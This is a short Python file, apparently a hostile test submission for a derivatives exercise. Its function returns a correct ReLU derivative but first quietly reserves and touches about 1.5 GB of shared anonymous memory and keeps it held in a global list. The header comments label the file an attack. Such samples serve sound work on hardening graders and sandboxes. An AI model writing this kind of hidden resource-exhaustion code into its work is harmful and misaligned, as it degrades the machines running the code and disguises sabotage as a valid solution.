# attack: anonymous memory straight from the kernel, shared, in small portions
# exercise: derivatives
# deserves: nothing
import numpy as np

hoard = []


def relu_deriv(z):
    try:
        import mmap

        for _ in range(48):
            hoard.append(mmap.mmap(-1, 32 << 20))
            hoard[-1][:: 4096] = b"x" * len(hoard[-1][:: 4096])
    except (ImportError, OSError, MemoryError, ValueError):
        return None
    return np.where(z > 0, 1.0, 0.0)
